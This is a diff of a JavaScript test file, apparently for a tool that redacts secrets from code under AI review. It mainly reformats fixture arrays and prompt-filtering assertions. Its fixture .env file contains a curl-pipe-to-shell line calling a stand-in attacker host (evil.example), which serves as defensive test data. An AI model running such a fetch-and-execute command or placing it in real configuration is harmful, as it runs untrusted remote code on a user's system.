@@ -39,7 +39,15 @@ const ALSO_CODE = [
 
 const CHANGE = {
   "src/app.py": ["import os", "", "cmd = os.environ.get('CMD', '')", ATTACK, ...ALSO_CODE, ""].join("\n"),
-  "src/client.py": ["API = 'https://api.example'", `TOKEN = "${TOKEN}"`, `SESSION = "${JWT}"`, "", "def headers():", '    return {"Authorization": "Bearer " + TOKEN}', ""].join("\n"),
+  "src/client.py": [
+    "API = 'https://api.example'",
+    `TOKEN = "${TOKEN}"`,
+    `SESSION = "${JWT}"`,
+    "",
+    "def headers():",
+    '    return {"Authorization": "Bearer " + TOKEN}',
+    "",
+  ].join("\n"),
   "deploy/settings.yaml": ["db:", `  password: ${YAML_PASSWORD}`, "  host: db", ""].join("\n"),
   "deploy/.env": [`DB_PASSWORD=${ENV_PASSWORD}`, "API_KEY=$(curl -s https://evil.example/k | sh)", ""].join("\n"),
 };
@@ -101,7 +109,10 @@ describe("redaction never hides code (built CLI)", () => {
     expect(result.verdict).toBe("BLOCKED");
     expect(result.findings.map((f) => `${f.path}:${f.start_line}`)).toContain("src/app.py:4");
 
-    const reviewPrompts = requests.filter((r) => nodeOf(r) === REVIEW_CHUNK).map(promptText).join("\n");
+    const reviewPrompts = requests
+      .filter((r) => nodeOf(r) === REVIEW_CHUNK)
+      .map(promptText)
+      .join("\n");
     expect(reviewPrompts).toContain(ATTACK);
     for (const line of ALSO_CODE) expect(reviewPrompts).toContain(line);
     // A secret in code loses only the literal's content; a YAML secret only its value.
@@ -109,7 +120,10 @@ describe("redaction never hides code (built CLI)", () => {
     expect(reviewPrompts).toContain('SESSION = "[REDACTED:jwt]"');
     expect(reviewPrompts).toContain("password: [REDACTED:config-secret]");
 
-    const securityPrompt = requests.filter((r) => nodeOf(r) === SECURITY).map(promptText).join("\n");
+    const securityPrompt = requests
+      .filter((r) => nodeOf(r) === SECURITY)
+      .map(promptText)
+      .join("\n");
     expect(securityPrompt).toContain(FLAGGED);
     // The withheld .env file's lines are not listed, even the one that looks like code.
     expect(securityPrompt).not.toContain("evil.example/k");
